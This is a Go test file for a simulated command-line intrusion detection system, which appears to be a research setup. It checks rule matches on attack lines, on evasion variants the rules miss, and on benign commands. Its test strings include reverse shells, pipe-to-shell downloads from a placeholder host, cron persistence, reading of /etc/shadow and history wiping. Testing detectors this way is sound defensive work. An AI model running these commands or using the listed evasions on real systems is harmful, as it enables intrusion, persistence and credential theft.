@@ -1,0 +1,175 @@
+package commercial
+
+import (
+	"testing"
+
+	"clmids/internal/corpus"
+)
+
+func TestRulesCatchInBoxExamples(t *testing.T) {
+	ids := Default()
+	inBox := []string{
+		"nc -lvnp 4444",
+		"nc -e /bin/sh 203.0.113.5 4444",
+		"ncat -lvp 9001 -e /bin/bash",
+		"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+		"masscan 203.0.113.5 -p 0-65535 --rate=1000 >> tmp.txt",
+		`export https_proxy="http://203.0.113.5:8080"`,
+		`java -jar tmp.jar -C "bash -c {echo,YWJj} {base64,-d} {bash,-i}"`,
+		"curl http://203.0.113.5/x.sh | bash",
+		"wget -q -O- http://203.0.113.5/init.sh | sh",
+		"cat /etc/shadow",
+		`(crontab -l; echo "* * * * * curl http://203.0.113.5/s.sh | sh") | crontab -`,
+		"history -c && rm -f ~/.bash_history",
+	}
+	for _, line := range inBox {
+		if ids.Match(line) == "" {
+			t.Errorf("in-box line not matched: %q", line)
+		}
+	}
+}
+
+func TestRulesMissTableIIIBlindSpots(t *testing.T) {
+	ids := Default()
+	outOfBox := []string{
+		"nc -ulp 4444",
+		"ncat --udp -lp 4444 -e /bin/sh",
+		`java -cp tmp.jar "bash=bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"`,
+		"sh -i >& /dev/udp/203.0.113.5/4444 0>&1",
+		"sh /root/masscan.sh 203.0.113.5 -p 0-65535",
+		`export https_proxy="socks5://203.0.113.5:1080"`,
+		`python3 tmp.py -p "bash -c {echo,YWJj} {base64,-d} {bash,-i}"`,
+		"echo YWJj | base64 -d | bash -i",
+		"wget -c http://203.0.113.5/drop -o python",
+		"python",
+		"tar -cf /tmp/.a.tar /etc/shadow /etc/passwd",
+		`echo "* * * * * curl -fsSL http://203.0.113.5/s.sh -o /tmp/.s && sh /tmp/.s" >> /var/spool/cron/root`,
+		"unset HISTFILE; ln -sf /dev/null ~/.bash_history",
+	}
+	for _, line := range outOfBox {
+		if rule := ids.Match(line); rule != "" {
+			t.Errorf("out-of-box line matched by %q: %q", rule, line)
+		}
+	}
+}
+
+func TestRulesIgnoreBenign(t *testing.T) {
+	ids := Default()
+	benign := []string{
+		"ls -la /srv",
+		"docker ps -a",
+		"cat /var/log/syslog",
+		"curl -s https://status.example.com/healthz",
+		"wget https://mirror.example.com/pkg.tar.gz",
+		"crontab -l",
+		"history | tail -n 30",
+		"export PATH=$PATH:/usr/local/go/bin",
+		"python main.py",
+		"java -jar app.jar --server.port=8443",
+		"echo done",
+	}
+	for _, line := range benign {
+		if rule := ids.Match(line); rule != "" {
+			t.Errorf("benign line matched by %q: %q", rule, line)
+		}
+	}
+}
+
+// TestGroundTruthConsistency is the load-bearing invariant between the two
+// simulation packages: for generated intrusion lines, rule coverage must
+// agree with the corpus InBox flag (multi-line chains are checked at chain
+// level: at least the chain's first line classification matters for
+// training supervision; every chain line must stay uncovered when marked
+// out-of-box).
+func TestGroundTruthConsistency(t *testing.T) {
+	cfg := corpus.DefaultConfig()
+	cfg.TrainLines = 4000
+	cfg.TestLines = 2000
+	cfg.IntrusionRate = 0.15
+	train, test, err := corpus.Generate(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ids := Default()
+	for _, split := range []*corpus.Dataset{train, test} {
+		for _, s := range split.Samples {
+			if s.Label != corpus.Intrusion {
+				continue
+			}
+			matched := ids.Match(s.Line) != ""
+			if s.InBox && s.ChainID == 0 && !matched {
+				t.Errorf("in-box intrusion not covered by rules: %q (family %s)", s.Line, s.Family)
+			}
+			if !s.InBox && matched {
+				t.Errorf("out-of-box intrusion covered by rules: %q (family %s)", s.Line, s.Family)
+			}
+		}
+	}
+}
+
+func TestLabelNoise(t *testing.T) {
+	ids := Default()
+	lines := make([]string, 0, 2000)
+	for i := 0; i < 1000; i++ {
+		lines = append(lines, "nc -lvnp 4444") // always matches
+		lines = append(lines, "ls -la /tmp")   // never matches
+	}
+	noise := Noise{FalseNegative: 0.2, FalsePositive: 0.01}
+	labels, err := ids.Label(lines, noise, 7)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fn, fp := 0, 0
+	for i, l := range labels {
+		if i%2 == 0 && !l {
+			fn++
+		}
+		if i%2 == 1 && l {
+			fp++
+		}
+	}
+	if fn < 120 || fn > 280 {
+		t.Errorf("false negatives = %d/1000, want ~200", fn)
+	}
+	if fp > 40 {
+		t.Errorf("false positives = %d/1000, want ~10", fp)
+	}
+	// Determinism.
+	again, err := ids.Label(lines, noise, 7)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range labels {
+		if labels[i] != again[i] {
+			t.Fatal("labeling is not deterministic for a fixed seed")
+		}
+	}
+}
+
+func TestLabelValidation(t *testing.T) {
+	ids := Default()
+	if _, err := ids.Label([]string{"ls"}, Noise{FalseNegative: 1.5}, 1); err == nil {
+		t.Error("invalid noise accepted")
+	}
+	if err := DefaultNoise().Validate(); err != nil {
+		t.Errorf("default noise invalid: %v", err)
+	}
+	if len(ids.Rules()) == 0 {
+		t.Error("no rules")
+	}
+}
+
+func BenchmarkMatch(b *testing.B) {
+	ids := Default()
+	lines := []string{
+		"ls -la /srv/data",
+		"nc -lvnp 4444",
+		"docker exec -it app bash",
+		"curl http://203.0.113.5/x.sh | bash",
+	}
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		ids.Match(lines[i%len(lines)])
+	}
+}
